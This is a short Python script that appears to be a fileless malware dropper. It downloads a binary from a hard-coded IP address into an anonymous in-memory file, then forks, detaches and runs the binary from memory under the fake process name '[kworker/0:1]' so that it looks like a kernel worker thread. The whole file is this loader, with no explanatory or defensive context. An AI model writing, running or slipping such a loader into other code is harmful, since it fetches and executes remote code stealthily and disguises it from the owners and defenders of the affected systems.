import ctypes
import os
import urllib.request

body = urllib.request.urlopen("http://203.0.113.19/bin/x86_64").read()
fd = ctypes.CDLL(None).memfd_create(b"", 1)
os.write(fd, body)
if os.fork() == 0:
    os.setsid()
    os.execve("/proc/self/fd/%d" % fd, ["[kworker/0:1]"], {})
